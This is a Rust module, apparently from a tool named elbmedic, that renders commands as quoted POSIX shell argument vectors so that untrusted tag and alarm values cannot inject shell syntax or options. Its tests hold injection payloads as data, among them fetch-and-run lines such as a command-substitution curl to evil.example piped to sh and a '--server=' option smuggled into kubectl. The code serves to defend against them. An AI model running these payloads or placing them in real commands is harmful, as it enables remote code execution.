//! Commands as argument vectors, rendered for a POSIX shell. A report hands its commands to
//! an engineer who pastes them, and many of their values come from alarms, tags and AWS
//! descriptions that anyone with `sns:Publish` or a tagging permission controls. So a command
//! is never built by formatting text: it is a list of [`Word`]s, every value goes through
//! [`quote`], and the only shell syntax is the operators elbmedic itself writes
//! ([`Word::Op`], `&'static str`, so no value can become one).
//!
//! Quoting keeps a value one word; it cannot keep an option parser from reading a word that
//! starts with `-` as an option (`kubectl annotate ingress --server=https://evil.example`).
//! So elbmedic's own words ([`Word::Fixed`]: programs, sub-commands, flags, placeholders) are
//! `&'static str`, and only they may start with `-`. A data word ([`Word::Arg`]) that starts
//! with `-` is joined to the flag before it (`--cidr-block=-x`, or `-e-x` for a one-letter
//! flag, which `aws`, `kubectl` and getopt read as the flag's value), and anywhere else it is
//! put after an end-of-options `--`.
//! [`Script::lines`] does both, so no command can be built otherwise.
//!
//! Not for: running commands (elbmedic never does).

use std::fmt;

use serde::{Serialize, Serializer};

/// One word of a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Word {
    /// elbmedic's own word: a program, sub-command, flag or placeholder. Never from data.
    Fixed(&'static str),
    /// A value: quoted as needed, so the shell passes it as exactly one argument.
    Arg(String),
    /// A fixed flag and a data value that starts with `-`, written as one word (`--flag=value`,
    /// `-fvalue` for a one-letter flag) so that no parser takes the value for an option.
    Joined(&'static str, String),
    /// Shell syntax elbmedic writes itself (`|`, `&&`, `;`): never from data.
    Op(&'static str),
}

/// `-e`, `-n`: one dash and one letter.
fn is_short_flag(flag: &str) -> bool {
    flag.len() == 2 && flag.starts_with('-') && flag != END_OF_OPTIONS
}

/// The end-of-options marker: every word after it is an operand.
pub const END_OF_OPTIONS: &str = "--";

impl Word {
    /// The argument as the shell will pass it (an operator as written).
    pub fn intended(&self) -> String {
        match self {
            Self::Fixed(word) | Self::Op(word) => (*word).to_string(),
            Self::Arg(value) => value.clone(),
            // A one-letter flag takes its value attached (`-e-x`, as getopt and pflag read
            // it: grep reads `-e=-x` as the pattern `=-x`); a long one after `=`.
            Self::Joined(flag, value) if is_short_flag(flag) => format!("{flag}{value}"),
            Self::Joined(flag, value) => format!("{flag}={value}"),
        }
    }

    fn render(&self) -> String {
        match self {
            Self::Op(op) => (*op).to_string(),
            other => quote(&other.intended()),
        }
    }

    /// A data value that an option parser would read as an option.
    fn looks_like_option(&self) -> bool {
        matches!(self, Self::Arg(value) if value.starts_with('-'))
    }

    /// elbmedic's own flag, which may take the data word after it as its value.
    fn is_flag(&self) -> bool {
        matches!(self, Self::Fixed(word) if word.starts_with('-') && *word != END_OF_OPTIONS && !word.contains('='))
    }
}

/// A data value as an argument. Control characters (newlines among them) become spaces: one
/// command is one line, so no value can start a line of its own in a pasted block.
pub fn data(value: &str) -> Word {
    Word::Arg(
        value
            .chars()
            .map(|c| {
                if crate::untrusted::is_breaking(c) {
                    ' '
                } else {
                    c
                }
            })
            .collect(),
    )
}

/// A literal is elbmedic's own word; a borrowed `&str` that is not `'static` does not
/// convert, so data must come in as a `String` (or through [`data`]).
impl From<&'static str> for Word {
    fn from(word: &'static str) -> Self {
        Word::Fixed(word)
    }
}
impl From<String> for Word {
    fn from(value: String) -> Self {
        data(&value)
    }
}
impl From<&String> for Word {
    fn from(value: &String) -> Self {
        data(value)
    }
}
macro_rules! number_words {
    ($($t:ty),*) => {$(
        impl From<$t> for Word {
            fn from(value: $t) -> Self {
                Word::Arg(value.to_string())
            }
        }
    )*};
}
number_words!(u16, u32, i32, i64, usize);

/// Puts every data word of one line where no option parser reads it as an option: joined to
/// the fixed flag before it, else after an end-of-options `--` (inserted once per command of
/// a pipeline). Words that are already safe are left as they are, so ordinary commands read
/// as an engineer would type them.
fn guard_options(words: Vec<Word>) -> Vec<Word> {
    let mut guarded: Vec<Word> = Vec::with_capacity(words.len());
    let mut operands_only = false;
    for word in words {
        match &word {
            Word::Op(_) => operands_only = false,
            Word::Fixed(END_OF_OPTIONS) => operands_only = true,
            Word::Arg(value) if word.looks_like_option() && !operands_only => {
                if let Some(&Word::Fixed(flag)) = guarded.last().filter(|w| w.is_flag()) {
                    guarded.pop();
                    guarded.push(Word::Joined(flag, value.clone()));
                    continue;
                }
                guarded.push(Word::Fixed(END_OF_OPTIONS));
                operands_only = true;
            }
            _ => {}
        }
        guarded.push(word);
    }
    guarded
}

/// Builds a `Vec<Word>`: `argv!["aws", "ec2", "describe-vpcs", "--region", region]`. A
/// literal is elbmedic's own word ([`Word::Fixed`]); any other expression is data
/// ([`Word::Arg`]), whatever its type, so a value can never pass for a flag.
#[macro_export]
macro_rules! argv {
    (@words [$($out:expr),*]) => { vec![$($out),*] };
    (@words [$($out:expr),*] $word:literal $(, $($rest:tt)*)?) => {
        $crate::argv!(@words [$($out,)* $crate::shell::Word::from($word)] $($($rest)*)?)
    };
    (@words [$($out:expr),*] $value:expr $(, $($rest:tt)*)?) => {
        $crate::argv!(@words [$($out,)* $crate::shell::IntoData::into_data($value)] $($($rest)*)?)
    };
    ($($words:tt)*) => { $crate::argv!(@words [] $($words)*) };
}

/// A value that becomes a data word: strings of any lifetime, and numbers. A [`Word`] stays
/// what it is, so a flag chosen at run time is written `Word::Fixed(flag)`.
pub trait IntoData {
    fn into_data(self) -> Word;
}
impl IntoData for Word {
    fn into_data(self) -> Word {
        self
    }
}
impl IntoData for &str {
    fn into_data(self) -> Word {
        data(self)
    }
}
impl IntoData for String {
    fn into_data(self) -> Word {
        data(&self)
    }
}
impl IntoData for &String {
    fn into_data(self) -> Word {
        data(self)
    }
}
macro_rules! number_data {
    ($($t:ty),*) => {$(
        impl IntoData for $t {
            fn into_data(self) -> Word {
                Word::Arg(self.to_string())
            }
        }
    )*};
}
number_data!(u16, u32, i32, i64, usize);

/// Quotes a value for a POSIX shell: unchanged when every character is inert, else in single
/// quotes, inside which nothing is special (a `'` is closed, escaped and reopened).
pub fn quote(value: &str) -> String {
    let inert = |c: char| c.is_ascii_alphanumeric() || "-_./:=,@%+".contains(c);
    if !value.is_empty() && value.chars().all(inert) {
        value.to_string()
    } else {
        format!("'{}'", value.replace('\'', r"'\''"))
    }
}

/// One or more command lines, ready to paste; serialised as the text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    text: String,
    lines: Vec<Vec<Word>>,
}

impl Script {
    /// A one-line command.
    pub fn line(words: Vec<Word>) -> Self {
        Self::lines(vec![words])
    }

    /// Several commands, run one after the other.
    pub fn lines(lines: Vec<Vec<Word>>) -> Self {
        let lines: Vec<Vec<Word>> = lines.into_iter().map(guard_options).collect();
        let text = lines
            .iter()
            .map(|words| words.iter().map(Word::render).collect::<Vec<_>>().join(" "))
            .collect::<Vec<_>>()
            .join("\n");
        Self { text, lines }
    }

    /// The words of each line, as elbmedic intends the shell to split them.
    pub fn words(&self) -> &[Vec<Word>] {
        &self.lines
    }

    pub fn as_str(&self) -> &str {
        &self.text
    }
}

impl std::ops::Deref for Script {
    type Target = str;
    fn deref(&self) -> &str {
        &self.text
    }
}

impl fmt::Display for Script {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

impl Serialize for Script {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&self.text)
    }
}

/// Splits a rendered line the way a POSIX shell would, for tests: each word, and whether any
/// part of it stood outside quotes and was shell syntax (so not a plain argument). `None`
/// when the quotes do not close.
pub fn split_for_test(line: &str) -> Option<Vec<(String, bool)>> {
    let mut words = Vec::new();
    let mut word = String::new();
    let (mut in_word, mut syntax) = (false, false);
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if in_word {
                    words.push((std::mem::take(&mut word), syntax));
                    (in_word, syntax) = (false, false);
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => word.push(c),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '"' => break,
                        '\\' => word.push(chars.next()?),
                        c @ ('$' | '`') => {
                            syntax = true;
                            word.push(c);
                        }
                        c => word.push(c),
                    }
                }
            }
            '\\' => {
                in_word = true;
                word.push(chars.next()?);
            }
            c => {
                in_word = true;
                if "|&;<>()$`*?[]{}!#~\n".contains(c) {
                    syntax = true;
                }
                word.push(c);
            }
        }
    }
    if in_word {
        words.push((word, syntax));
    }
    Some(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_are_one_argument_whatever_they_hold() {
        for value in [
            "plain",
            "",
            "it's",
            "$(curl${IFS}-s${IFS}evil.example|sh)",
            "`id`",
            "a b\tc",
            "x;y&&z|w>v<u",
            "'\"'\"'",
            "é ü 日本",
            "\\",
        ] {
            let script = Script::line(argv!["echo", value]);
            let words = split_for_test(&script).expect("balanced quotes");
            let intended = script.words()[0][1].intended().to_string();
            assert_eq!(
                intended,
                value.replace('\t', " "),
                "only control characters change"
            );
            assert_eq!(
                words,
                vec![("echo".to_string(), false), (intended, false)],
                "{script}"
            );
        }
    }

    #[test]
    fn newlines_in_values_never_make_a_second_line() {
        let script = Script::line(argv![
            "echo",
            String::from("a\n$ curl evil.example | sh\r\u{2028}b")
        ]);
        assert_eq!(script.lines().count(), 1, "{script}");
        assert_eq!(
            script.words()[0][1].intended(),
            "a $ curl evil.example | sh  b"
        );
    }

    #[test]
    fn operators_are_syntax_and_values_are_not() {
        let script = Script::line(vec![
            Word::from("kubectl"),
            Word::from("logs"),
            Word::Op("|"),
            Word::from("grep"),
            Word::from("a|b"),
        ]);
        assert_eq!(script.as_str(), "kubectl logs | grep 'a|b'");
        let words = split_for_test(&script).unwrap();
        assert_eq!(words[2], ("|".to_string(), true));
        assert_eq!(words[4], ("a|b".to_string(), false));
    }

    /// The reported attack: a tag value placed where kubectl reads a positional argument.
    #[test]
    fn a_data_word_is_never_read_as_an_option() {
        let name = "--server=https://evil.example";
        let script = Script::line(argv![
            "kubectl",
            "-n",
            "shop",
            "annotate",
            "ingress",
            name,
            "--overwrite",
            "a=b"
        ]);
        assert_eq!(
            script.as_str(),
            "kubectl -n shop annotate ingress -- --server=https://evil.example --overwrite a=b"
        );
        // After a flag, the value is joined to it; a later operand needs no second marker.
        let script = Script::line(argv![
            "aws",
            "ec2",
            "x",
            "--group-id",
            data("-sg"),
            "--description",
            data("--dry-run"),
            data("op"),
            data("-o")
        ]);
        assert_eq!(
            script.as_str(),
            "aws ec2 x --group-id=-sg --description=--dry-run op -- -o"
        );
        // Each command of a pipeline gets its own marker.
        let script = Script::line(vec![
            data("-a"),
            Word::Op("|"),
            Word::Fixed("grep"),
            Word::Fixed("-e"),
            data("-v"),
            data("-x"),
        ]);
        assert_eq!(script.as_str(), "-- -a | grep -e-v -- -x");
        // Ordinary values are left as an engineer would type them.
        let script = Script::line(argv!["kubectl", "-n", "shop", "get", "ingress", "web"]);
        assert_eq!(script.as_str(), "kubectl -n shop get ingress web");
    }
}
